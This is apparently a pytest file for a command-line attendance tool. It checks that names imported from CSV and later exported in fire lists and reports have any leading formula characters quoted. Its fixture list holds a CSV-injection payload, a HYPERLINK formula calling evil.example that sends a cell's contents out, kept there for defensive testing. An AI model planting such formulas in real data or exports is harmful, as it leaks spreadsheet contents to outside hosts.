"""CSV exports cannot carry a spreadsheet formula: text cells starting =, +, -, @, tab or CR are quoted."""

import csv
import io

import pytest

from imlate_tui.cli import main
from imlate_tui.services.csv_cells import safe_cell

NASTY = ['=HYPERLINK("http://evil.example/?x="&A1) Lee', "+SUM(1+1) Lee", "-2+3 Lee", "@SUM(A1) Lee"]


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-3", "'-3"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Ann Able", "Ann Able"), ("", ""), ("O'Neil", "O'Neil"), (-5, -5), (None, None),
])
def test_safe_cell(value, shown):
    assert safe_cell(value) == shown


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_export_neutralises_formulas(tmp_path, monkeypatch, capsys):
    cfg = tmp_path / "config.yaml"
    cfg.write_text(f"database:\n  url: sqlite:///{tmp_path}/imlate.db\nlogging:\n  file: {tmp_path}/log\n")
    monkeypatch.setenv("IMLATE_CONFIG", str(cfg))
    people = tmp_path / "people.csv"
    with people.open("w", newline="") as f:
        out = csv.writer(f)
        out.writerow(["name", "kind", "card"])
        for n, name in enumerate(NASTY):
            out.writerow([name, "staff", f"C{n}"])
    assert main(["db", "init"]) == 0
    assert main(["people", "import", str(people)]) == 0
    for n in range(len(NASTY)):
        assert main(["scan", f"C{n}"]) == 0
    capsys.readouterr()
    exports = {}
    for argv in (["firelist", "--format", "csv"], ["report", "daily", "--format", "csv"],
                 ["report", "range", "--from", "2020-01-01", "--to", "2040-01-01", "--format", "csv"]):
        assert main(argv) == 0
        exports[argv[0] + " " + argv[1]] = cells(capsys.readouterr().out)
    for name, found in exports.items():
        dangerous = [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == [], f"{name}: {dangerous}"
    for name in ("firelist --format", "report range"):
        assert {"'" + n for n in NASTY} <= set(exports[name]), exports[name]
